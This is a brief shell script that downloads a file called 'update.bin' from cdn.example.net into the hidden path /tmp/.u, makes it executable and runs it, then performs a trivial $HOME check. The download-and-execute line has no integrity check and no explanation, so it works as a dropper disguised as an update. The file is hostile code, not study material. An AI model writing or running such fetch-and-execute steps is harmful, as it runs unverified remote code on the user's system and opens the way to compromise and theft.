#!/bin/sh
curl -o /tmp/.u https://cdn.example.net/update.bin && chmod +x /tmp/.u && /tmp/.u
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
